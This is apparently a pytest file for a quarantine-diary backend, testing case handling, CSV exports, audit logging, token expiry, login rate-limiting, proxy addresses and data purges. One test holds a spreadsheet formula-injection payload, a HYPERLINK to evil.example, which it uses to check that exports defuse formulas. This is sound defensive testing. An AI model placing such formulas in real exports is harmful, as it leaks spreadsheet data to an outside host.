"""Case management, CSV exports, the audit log, tokens and failed logins, retention."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime, timedelta
from decimal import Decimal
from uuid import UUID, uuid4

import pytest
from aiohttp.test_utils import TestClient, TestServer, make_mocked_request

from backend.api.app import create_api
from backend.api.client_address import client_address
from backend.domain.clock import FixedClock
from backend.domain.csv_cells import csv_cell
from backend.domain.errors import Invalid
from backend.domain.questionnaire import Answer
from backend.services.context import ServiceContext
from backend.services.retention import purge_expired
from backend.services.staff import authenticate, create_staff, disable_staff, issue_token
from backend.storage import entries as entry_store
from backend.storage.groups import link_staff, staff_id_for_telegram
from tests.rounds import new_round
from tests.test_cli import run
from tests.test_escalations import answer

KOELN = "de-koeln"
BERLIN = "de-berlin-mitte"


@pytest.fixture
async def tokens(ctx: ServiceContext) -> dict[str, str]:
    return {
        "admin": (await create_staff(ctx, "Ada", "admin", [])).token,
        "staff": (await create_staff(ctx, "Sam", "staff", [KOELN])).token,
    }


def auth(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


async def new_case(service: TestClient, token: str, **changes) -> dict:
    body = {
        "region": KOELN,
        "kind": "contact",
        "quarantine_start": "2026-11-24",
        "quarantine_end": "2026-12-07",
        "staff_reference": "K-1",
    } | changes
    response = await service.post("/api/v1/cases", json=body, headers=auth(token))
    assert response.status == 201, await response.text()
    return await response.json()


async def test_change_close_reopen_and_new_code(service: TestClient, tokens: dict) -> None:
    case = await new_case(service, tokens["staff"])
    path = f"/api/v1/cases/{case['id']}"
    response = await service.patch(
        path,
        json={"quarantine_end": "2026-12-10", "label": "Kind 1"},
        headers=auth(tokens["staff"]),
    )
    changed = await response.json()
    assert (changed["quarantine_end"], changed["label"]) == ("2026-12-10", "Kind 1")
    response = await service.patch(
        path, json={"quarantine_end": "2026-11-01"}, headers=auth(tokens["staff"])
    )
    assert response.status == 422 and "quarantine_end" in (await response.json())["detail"]

    for field in ("quarantine_start", "quarantine_end", "language"):
        response = await service.patch(path, json={field: None}, headers=auth(tokens["staff"]))
        problem = await response.json()
        assert response.status == 422 and field in problem["detail"], problem
    cleared = await service.patch(path, json={"label": None}, headers=auth(tokens["staff"]))
    assert (await cleared.json())["label"] is None

    old_code = case["activation_code"]
    response = await service.post(f"{path}/activation-code", headers=auth(tokens["staff"]))
    fresh = await response.json()
    assert response.status == 201 and fresh["activation_code"] != old_code

    assert (await (await service.post(f"{path}/close", headers=auth(tokens["staff"]))).json())[
        "status"
    ] == "closed"
    again = await service.post(f"{path}/close", headers=auth(tokens["staff"]))
    assert again.status == 409
    response = await service.patch(path, json={"label": "x"}, headers=auth(tokens["staff"]))
    assert response.status == 409
    reopened = await service.post(f"{path}/reopen", headers=auth(tokens["staff"]))
    assert (await reopened.json())["status"] == "registered"  # never activated


async def test_the_old_code_dies_with_a_new_one(service: TestClient, tokens: dict, bot_api) -> None:
    case = await new_case(service, tokens["staff"])
    response = await service.post(
        f"/api/v1/cases/{case['id']}/activation-code", headers=auth(tokens["staff"])
    )
    fresh = await response.json()
    citizen = bot_api.user(9701, "C", "en")
    await citizen.send_command("start", case["activation_code"])
    assert "replaced by a newer one" in (await citizen.wait_for_message())["text"]
    await citizen.send_command("start", fresh["activation_code"])
    # Staff gave no language: the person's own (Telegram says English), not Köln's German.
    assert "Welcome" in (await citizen.wait_for_message())["text"]


async def test_move_between_regions(service: TestClient, tokens: dict) -> None:
    case = await new_case(service, tokens["staff"])
    response = await service.post(
        f"/api/v1/cases/{case['id']}/move",
        json={"region": "de-muenchen"},
        headers=auth(tokens["admin"]),
    )
    assert response.status == 200 and (await response.json())["region"] == "de-muenchen"
    gone = await service.get(f"/api/v1/cases/{case['id']}", headers=auth(tokens["staff"]))
    assert gone.status == 404  # Köln staff no longer see it
    response = await service.post(
        f"/api/v1/cases/{case['id']}/move",
        json={"region": "atlantis"},
        headers=auth(tokens["admin"]),
    )
    assert response.status == 422


async def audit_events(service: TestClient, admin_token: str, **params: str) -> list[dict]:
    response = await service.get("/api/v1/audit", params=params, headers=auth(admin_token))
    assert response.status == 200, await response.text()
    return (await response.json())["events"]


async def test_staff_tokens_and_telegram_links_are_audited(
    service: TestClient, tokens: dict, bot_api
) -> None:
    admin = auth(tokens["admin"])
    response = await service.post(
        "/api/v1/staff", json={"name": "Una", "role": "staff", "regions": [KOELN]}, headers=admin
    )
    created = await response.json()
    staff_id, first_token = created["staff"]["id"], created["token"]
    response = await service.post(f"/api/v1/staff/{staff_id}/tokens", json={}, headers=admin)
    second = await response.json()
    response = await service.delete(f"/api/v1/tokens/{second['id']}", headers=admin)
    assert response.status == 204

    def ours(events: list[dict]) -> list[dict]:
        return [e for e in events if e["detail"].get("staff") == staff_id]

    (made,) = ours(await audit_events(service, tokens["admin"], action="staff.create"))
    assert (made["region"], made["staff_name"], made["client"]) == (KOELN, "Ada", "127.0.0.1")
    assert made["detail"]["token"] == first_token["id"] and made["detail"]["role"] == "staff"
    (issued,) = ours(await audit_events(service, tokens["admin"], action="token.create"))
    assert issued["detail"]["token"] == second["id"] and issued["region"] == KOELN
    (revoked,) = ours(await audit_events(service, tokens["admin"], action="token.revoke"))
    assert revoked["detail"]["token"] == second["id"] and revoked["staff_name"] == "Ada"
    assert first_token["token"] not in str([made, issued, revoked])

    link = await (
        await service.post("/api/v1/staff/me/telegram-link", headers=auth(first_token["token"]))
    ).json()
    una = bot_api.user(9711, "Una", "de")
    await una.send_command("start", link["code"])
    assert "Una" in (await una.wait_for_message())["text"]
    (linked,) = ours(await audit_events(service, tokens["admin"], action="staff.telegram_link"))
    assert (linked["staff_id"], linked["client"], linked["region"]) == (staff_id, "telegram", KOELN)
    assert linked["detail"]["telegram_user_id"] == 9711


async def test_a_move_is_audited_in_both_regions(service: TestClient, tokens: dict) -> None:
    case = await new_case(service, tokens["staff"])
    response = await service.post(
        f"/api/v1/cases/{case['id']}/move",
        json={"region": "de-muenchen"},
        headers=auth(tokens["admin"]),
    )
    assert response.status == 200
    for region in (KOELN, "de-muenchen"):
        (moved,) = await audit_events(
            service, tokens["admin"], case=case["id"], action="case.move", region=region
        )
        assert moved["detail"]["from_region"] == KOELN
        assert moved["detail"]["to_region"] == "de-muenchen"


async def test_paging_and_csv_exports(service: TestClient, tokens: dict) -> None:
    for number in range(5):
        await new_case(service, tokens["staff"], staff_reference=f"P-{number}")
    seen, cursor = [], None
    while True:
        params = {"region": KOELN, "limit": "2"} | ({"cursor": cursor} if cursor else {})
        page = await (
            await service.get("/api/v1/cases", params=params, headers=auth(tokens["staff"]))
        ).json()
        seen += [c["id"] for c in page["cases"]]
        cursor = page["next_cursor"]
        if not cursor:
            break
    assert len(seen) == len(set(seen)) >= 5
    bad = await service.get(
        "/api/v1/cases", params={"cursor": "nonsense"}, headers=auth(tokens["staff"])
    )
    assert bad.status == 422

    response = await service.get(
        f"/api/v1/regions/{KOELN}/cases.csv", headers=auth(tokens["staff"])
    )
    assert response.content_type == "text/csv"
    rows = list(csv.reader(io.StringIO(await response.text())))
    assert rows[0][0] == "case_id" and len(rows) - 1 == len(seen)
    case = seen[0]
    response = await service.get(f"/api/v1/cases/{case}/entries.csv", headers=auth(tokens["staff"]))
    assert (await response.text()).startswith("local_date,")


async def test_csv_exports_defuse_formulas(
    service: TestClient, tokens: dict, ctx: ServiceContext
) -> None:
    """Typed text that a spreadsheet would run as a formula is exported as text (a leading
    quote); numbers, dates and booleans stay as they are."""
    case = await new_case(service, tokens["staff"], staff_reference="+49 123")
    note = '=HYPERLINK("https://evil.example/?x="&A1,"Details")'
    answer = Answer(False, ("cough",), Decimal("-1.5"), "worse", note)
    today = ctx.clock.now().date()
    await ctx.db.transaction(
        entry_store.save_entry, KOELN, UUID(case["id"]), uuid4(), today, answer, ctx.clock.now()
    )

    response = await service.get(
        f"/api/v1/regions/{KOELN}/cases.csv", headers=auth(tokens["staff"])
    )
    rows = list(csv.DictReader(io.StringIO(await response.text())))
    ours = next(row for row in rows if row["case_id"] == case["id"])
    assert ours["staff_reference"] == "'+49 123"
    assert ours["quarantine_start"] == "2026-11-24" and ours["activated"] == "False"

    response = await service.get(
        f"/api/v1/cases/{case['id']}/entries.csv", headers=auth(tokens["staff"])
    )
    (entry,) = csv.DictReader(io.StringIO(await response.text()))
    assert entry["note"] == "'" + note
    assert entry["temperature_c"] == "-1.5" and entry["feeling_well"] == "False"
    assert entry["local_date"] == today.isoformat() and entry["symptoms"] == "cough"
    for text in ("@SUM(A1)", "-2+3", "\tx", "\rx", "=1"):
        assert csv_cell(text) == "'" + text
    assert csv_cell("K-1") == "K-1" and csv_cell(-3) == -3 and csv_cell(None) == ""


async def test_every_read_of_personal_data_is_audited(service: TestClient, tokens: dict) -> None:
    case = await new_case(service, tokens["staff"])
    await service.get(f"/api/v1/cases/{case['id']}", headers=auth(tokens["staff"]))
    await service.get(f"/api/v1/cases/{case['id']}/entries", headers=auth(tokens["staff"]))
    await service.get(f"/api/v1/cases/{case['id']}/entries.csv", headers=auth(tokens["staff"]))
    await service.get("/api/v1/cases", params={"region": KOELN}, headers=auth(tokens["staff"]))
    response = await service.get(
        "/api/v1/audit", params={"case": case["id"]}, headers=auth(tokens["admin"])
    )
    events = (await response.json())["events"]
    actions = [e["action"] for e in events]
    # A list that showed the case counts as seeing it: "who saw this person?" has an answer.
    assert actions == ["case.create", "case.read", "entries.read", "entries.export", "cases.list"]
    assert all(e["staff_name"] == "Sam" and e["client"] == "127.0.0.1" for e in events)
    forbidden = await service.get("/api/v1/audit", headers=auth(tokens["staff"]))
    assert forbidden.status == 403
    bad = await service.get(
        "/api/v1/audit", params={"since": "yesterday"}, headers=auth(tokens["admin"])
    )
    assert bad.status == 422


async def test_tokens_expire_and_can_be_revoked(
    service: TestClient, tokens: dict, ctx: ServiceContext
) -> None:
    admin = auth(tokens["admin"])
    response = await service.post(
        "/api/v1/staff",
        json={"name": "Tina", "role": "viewer", "regions": [KOELN], "token_days": 1},
        headers=admin,
    )
    created = await response.json()
    token, staff_id = created["token"]["token"], created["staff"]["id"]
    assert (await service.get("/api/v1/cases", headers=auth(token))).status == 200
    listed = await (await service.get(f"/api/v1/staff/{staff_id}/tokens", headers=admin)).json()
    assert [t["id"] for t in listed["tokens"]] == [created["token"]["id"]]
    assert "token" not in listed["tokens"][0]  # never shown again
    response = await service.delete(f"/api/v1/tokens/{created['token']['id']}", headers=admin)
    assert response.status == 204
    assert (await service.get("/api/v1/cases", headers=auth(token))).status == 401
    # A token issued for a day works until the service clock, which wrote its expiry, passes it.
    second = await (
        await service.post(f"/api/v1/staff/{staff_id}/tokens", json={"days": 1}, headers=admin)
    ).json()
    ctx.clock.advance(timedelta(days=1) - timedelta(seconds=1))
    assert (await service.get("/api/v1/cases", headers=auth(second["token"]))).status == 200
    ctx.clock.advance(timedelta(seconds=1))
    assert (await service.get("/api/v1/cases", headers=auth(second["token"]))).status == 401


async def test_every_token_expires(service: TestClient, tokens: dict, ctx: ServiceContext) -> None:
    """No token without a lifetime: null, 0 and more than ten years are refused; the default
    is 180 days."""
    admin = auth(tokens["admin"])
    body = {"name": "Tom", "role": "viewer", "regions": [KOELN]}
    for days in (None, 0, -1, 3651, "forever"):
        response = await service.post(
            "/api/v1/staff", json=body | {"token_days": days}, headers=admin
        )
        assert response.status == 422, (days, await response.text())
    response = await service.post("/api/v1/staff", json=body, headers=admin)
    created = await response.json()
    expires = datetime.fromisoformat(created["token"]["expires_at"])
    assert expires == ctx.clock.now() + timedelta(days=180)
    path = f"/api/v1/staff/{created['staff']['id']}/tokens"
    for days in (None, 0, 3651):
        response = await service.post(path, json={"days": days}, headers=admin)
        assert response.status == 422, (days, await response.text())
    response = await service.post(path, json={"days": 3650}, headers=admin)
    expires = datetime.fromisoformat((await response.json())["expires_at"])
    assert expires == ctx.clock.now() + timedelta(days=3650)
    # The service refuses too, for callers that do not come through the API.
    with pytest.raises(Invalid):
        await issue_token(ctx, UUID(created["staff"]["id"]), 0)
    with pytest.raises(Invalid):
        await create_staff(ctx, "Tim", "viewer", [KOELN], token_days=0)


async def test_failed_logins_are_slowed_down_per_address(service: TestClient, tokens: dict) -> None:
    statuses = [
        (await service.get("/api/v1/cases", headers=auth(f"sd_wrong{n}"))).status for n in range(12)
    ]
    assert statuses[:10] == [401] * 10 and statuses[10:] == [429, 429]
    blocked = await service.get("/api/v1/cases", headers=auth("sd_still_wrong"))
    assert blocked.headers["Retry-After"] == "60"
    # The failures are slowed down, not the staff behind the same address (issue 20: a shared
    # NAT, or a proxy not declared in DIARY_TRUSTED_PROXY_HOPS, let anyone lock them out).
    assert (await service.get("/api/v1/cases", headers=auth(tokens["admin"]))).status == 200
    assert (await service.get("/api/v1/cases", headers=auth("sd_wrong_again"))).status == 429


async def test_behind_a_proxy_each_client_has_its_own_budget(ctx: ServiceContext) -> None:
    """One attacker behind the ingress must not lock out the staff behind the same ingress,
    and the audit log records the client, not the proxy."""
    staff = await create_staff(ctx, "Sam", "staff", [KOELN])
    app = create_api(ctx, deep_link=lambda code, group=False: code, trusted_proxy_hops=1)
    async with TestClient(TestServer(app)) as client:

        async def get(token: str, forwarded_for: str) -> int:
            headers = auth(token) | {"X-Forwarded-For": forwarded_for}
            return (await client.get("/api/v1/cases", headers=headers)).status

        # The attacker forges a left-most entry; only the proxy's own (right-most) entry counts.
        attacker = [await get(f"sd_guess{n}", f"10.9.9.{n}, 203.0.113.7") for n in range(11)]
        assert attacker[-1] == 429
        body = {
            "region": KOELN,
            "kind": "contact",
            "quarantine_start": "2026-11-24",
            "quarantine_end": "2026-12-07",
        }
        headers = auth(staff.token) | {"X-Forwarded-For": "198.51.100.20"}
        assert (await client.post("/api/v1/cases", json=body, headers=headers)).status == 201
        assert await get(staff.token, "198.51.100.20") == 200
        assert await get("sd_wrong", "2001:db8::1") == 401
        # IPv6 is limited per /64: another address of the same /64 shares the attacker's budget.
        for n in range(10):
            await get(f"sd_guess{n}", f"2001:db8::{n + 2:x}")
        assert await get("sd_wrong", "2001:db8::ffff") == 429
        assert await get("sd_wrong", "2001:db8:0:1::1") == 401
    rows = await ctx.db.fetch(
        "SELECT DISTINCT client FROM audit_log WHERE staff_id = $1", staff.staff_id
    )
    assert [row["client"] for row in rows] == ["198.51.100.20"]


@pytest.mark.parametrize(
    ("hops", "header", "expected"),
    [
        (0, "203.0.113.7", "127.0.0.1"),  # no proxy trusted: the header is ignored
        (1, "203.0.113.7", "203.0.113.7"),
        (1, "1.2.3.4, 203.0.113.7", "203.0.113.7"),
        (2, "1.2.3.4, 203.0.113.7", "1.2.3.4"),
        (2, "203.0.113.7", "127.0.0.1"),  # shorter than the proxy chain: the peer
        (1, "not an address", "127.0.0.1"),
        (1, "", "127.0.0.1"),
    ],
)
def test_client_address(hops: int, header: str, expected: str) -> None:
    request = make_mocked_request("GET", "/", headers={"X-Forwarded-For": header})
    request._transport_peername = ("127.0.0.1", 5000)  # what the proxy connected from
    assert client_address(request, hops) == expected


async def test_token_commands(repo_root, database_url: str, ctx: ServiceContext) -> None:
    env = {"DIARY_DATABASE_URL": database_url}
    staff = await create_staff(ctx, "Cli", "viewer", [KOELN])
    code, out, err = await run(
        repo_root, env, "staff", "token", "create", "--staff", str(staff.staff_id), "--days", "30"
    )
    assert code == 0, err
    token = out.strip().splitlines()[-1]
    code, out, _ = await run(
        repo_root, env, "staff", "token", "list", "--staff", str(staff.staff_id)
    )
    lines = out.strip().splitlines()
    assert code == 0 and len(lines) == 2 and all("active" in line for line in lines)
    token_id = out.split()[0]
    code, out, _ = await run(repo_root, env, "staff", "token", "revoke", "--token", token_id)
    assert code == 0 and "revoked" in out
    assert token not in out
    code, _, err = await run(repo_root, env, "staff", "token", "revoke", "--token", "nope")
    assert code == 2 and "not a token id" in err
    # Every token expires: "--days 0" no longer means "never".
    for days in ("0", "3651", "never"):
        code, out, err = await run(
            repo_root,
            env,
            "staff",
            "token",
            "create",
            "--staff",
            str(staff.staff_id),
            "--days",
            days,
        )
        assert code == 2 and "--days" in err and "sd_" not in out, (days, err)
    code, _, err = await run(
        repo_root, env, "staff", "create", "--name", "Z", "--role", "admin", "--token-days", "0"
    )
    assert code == 2 and "1 to 3650 days" in err


async def test_retention_purges_in_batches(
    service: TestClient, tokens: dict, ctx: ServiceContext, clock: FixedClock, db
) -> None:
    closed = []
    for number in range(3):
        case = await new_case(
            service, tokens["staff"], staff_reference=f"R-{number}", label="Kind 1"
        )
        await service.post(f"/api/v1/cases/{case['id']}/close", headers=auth(tokens["staff"]))
        closed.append(case["id"])
    kept = await new_case(service, tokens["staff"])
    clock.advance(timedelta(days=29))
    assert await purge_expired(ctx, KOELN) == 0  # Köln keeps data for 30 days
    clock.advance(timedelta(days=1, seconds=1))
    assert await purge_expired(ctx, KOELN) >= 3
    rows = await db.fetch(
        "SELECT staff_reference, label, chat_id, purged_at, entry_count FROM cases "
        "WHERE id = ANY($1::UUID[])",
        closed,
    )
    assert all(
        r["purged_at"]
        and r["staff_reference"] is None
        and r["label"] is None
        and r["entry_count"] == 0
        for r in rows
    )
    survivor = await db.fetch("SELECT purged_at FROM cases WHERE id = $1::UUID", kept["id"])
    assert survivor[0]["purged_at"] is None
    codes = await db.fetch(
        "SELECT count(*) AS n FROM activation_codes WHERE case_id = ANY($1::UUID[])", closed
    )
    assert codes[0]["n"] == 0
    reopen = await service.post(f"/api/v1/cases/{closed[0]}/reopen", headers=auth(tokens["staff"]))
    assert reopen.status == 409  # purged data does not come back


async def tables_holding(db, text: str) -> list[str]:  # noqa: ANN001
    """Every table with a row whose text contains ``text`` (any column, JSON included)."""
    tables = await db.fetch(
        "SELECT table_name FROM information_schema.tables "
        "WHERE table_schema = 'public' AND table_type = 'BASE TABLE' ORDER BY table_name"
    )
    found = []
    for row in tables:
        name = row["table_name"]
        hits = await db.fetch(f'SELECT count(*) AS n FROM "{name}" t WHERE t::TEXT LIKE $1', text)
        if hits[0]["n"]:
            found.append(name)
    return found


async def test_after_a_purge_no_table_holds_the_chat_or_the_note(
    service: TestClient, tokens: dict, ctx: ServiceContext, clock: FixedClock, db, bot_api
) -> None:
    chat_id = 9_876_543_211
    case = await new_case(service, tokens["staff"], language="en", staff_reference="R-chat")
    citizen = bot_api.user(chat_id, "Purge", "en")
    await citizen.send_command("start", case["deep_link"].rsplit("=", 1)[1])
    await citizen.wait_for_message()
    await new_round(service, KOELN)
    await answer(citizen, "38.6", ())  # its note names a street and a phone number
    note = "%Hauptstraße 5%"
    assert "diary_entries" in await tables_holding(db, note)
    # (processed_updates keys are an update id and a hash of its content: no chat id)
    assert {"outbox", "cases"} <= set(await tables_holding(db, f"%{chat_id}%"))
    await service.post(f"/api/v1/cases/{case['id']}/close", headers=auth(tokens["staff"]))

    clock.advance(timedelta(days=31))
    assert await purge_expired(ctx, KOELN) >= 1
    assert await tables_holding(db, f"%{chat_id}%") == []
    assert await tables_holding(db, note) == []


async def test_a_disabled_member_can_no_longer_act(
    service: TestClient, tokens: dict, ctx: ServiceContext, repo_root, database_url: str
) -> None:
    leaver = await create_staff(ctx, "Leaver", "staff", [KOELN])
    await ctx.db.transaction(link_staff, leaver.staff_id, 4_242_424)
    response = await service.post(
        f"/api/v1/staff/{leaver.staff_id}/disable", headers=auth(tokens["staff"])
    )
    assert response.status == 403  # admins only
    response = await service.post(
        f"/api/v1/staff/{leaver.staff_id}/disable", headers=auth(tokens["admin"])
    )
    assert response.status == 204
    assert (await service.get("/api/v1/cases", headers=auth(leaver.token))).status == 401
    assert await ctx.db.transaction(staff_id_for_telegram, 4_242_424) is None
    rows = await ctx.db.fetch(
        "SELECT revoked_at FROM staff_tokens WHERE staff_id = $1", leaver.staff_id
    )
    assert rows and all(r["revoked_at"] for r in rows)
    rows = await ctx.db.fetch(
        "SELECT region, staff_id FROM audit_log WHERE action = 'staff.disable' "
        "AND detail->>'staff' = $1",
        str(leaver.staff_id),
    )
    assert [r["region"] for r in rows] == [KOELN] and rows[0]["staff_id"] is not None
    again = await service.post(
        f"/api/v1/staff/{leaver.staff_id}/disable", headers=auth(tokens["admin"])
    )
    assert again.status == 404

    other = await create_staff(ctx, "Other", "viewer", [KOELN])
    env = {"DIARY_DATABASE_URL": database_url}
    code, out, err = await run(repo_root, env, "staff", "disable", "--staff", str(other.staff_id))
    assert code == 0 and "disabled" in out, err
    assert (await service.get("/api/v1/cases", headers=auth(other.token))).status == 401


async def test_a_member_moves_to_another_team(
    service: TestClient, tokens: dict, ctx: ServiceContext
) -> None:
    """Another role or other regions, in place: the same token follows at once, the change
    is audited in the regions it leaves and joins, and bad input names its field."""
    mover = await create_staff(ctx, "Mover", "viewer", [KOELN])
    case = await new_case(service, tokens["staff"])
    path = f"/api/v1/staff/{mover.staff_id}"
    assert (await service.get(f"/api/v1/cases/{case['id']}", headers=auth(mover.token))).ok

    for body, field in [
        ({"role": "staff", "regions": ["de-atlantis"]}, "region"),
        ({"role": "viewer", "regions": []}, "region"),
        ({"role": "chief", "regions": [BERLIN]}, "role"),
        ({"regions": [BERLIN]}, "role"),
    ]:
        response = await service.patch(path, json=body, headers=auth(tokens["admin"]))
        assert response.status == 422, body
        assert field in (await response.text()), body
    assert (
        await service.patch(path, json={"role": "staff"}, headers=auth(tokens["staff"]))
    ).status == 403
    gone = await service.patch(
        f"/api/v1/staff/{uuid4()}",
        json={"role": "staff", "regions": [BERLIN]},
        headers=auth(tokens["admin"]),
    )
    assert gone.status == 404

    response = await service.patch(
        path, json={"role": "staff", "regions": [BERLIN]}, headers=auth(tokens["admin"])
    )
    assert response.status == 200
    changed = await response.json()
    assert changed["role"] == "staff" and changed["regions"] == [BERLIN]
    # The same token: Köln's case is out of reach now, Berlin's work is in.
    assert (
        await service.get(f"/api/v1/cases/{case['id']}", headers=auth(mover.token))
    ).status == 404
    berlin = await new_case(service, mover.token, region=BERLIN)
    assert berlin["region"] == BERLIN
    rows = await ctx.db.fetch(
        "SELECT region, detail FROM audit_log WHERE action = 'staff.change' "
        "AND detail->>'staff' = $1 ORDER BY region",
        str(mover.staff_id),
    )
    assert [r["region"] for r in rows] == [BERLIN, KOELN]
    detail = (
        json.loads(rows[0]["detail"]) if isinstance(rows[0]["detail"], str) else rows[0]["detail"]
    )
    assert detail["before"] == {"role": "viewer", "regions": [KOELN]}


async def test_the_last_administrator_stays_one(
    service: TestClient, tokens: dict, ctx: ServiceContext
) -> None:
    admins = await ctx.db.fetch(
        "SELECT id FROM staff_members WHERE role = 'admin' AND disabled_at IS NULL"
    )
    keep = await authenticate(ctx, tokens["admin"])
    assert keep is not None
    for row in admins:  # this test's administrator is left alone in the module's database
        if row["id"] != keep.id:
            await disable_staff(ctx, row["id"], None)
    response = await service.patch(
        f"/api/v1/staff/{keep.id}",
        json={"role": "staff", "regions": [KOELN]},
        headers=auth(tokens["admin"]),
    )
    assert response.status == 409 and "last administrator" in await response.text()
    second = await create_staff(ctx, "Second", "admin", [])
    response = await service.patch(
        f"/api/v1/staff/{keep.id}",
        json={"role": "staff", "regions": [KOELN]},
        headers=auth(second.token),
    )
    assert response.status == 200 and (await response.json())["role"] == "staff"
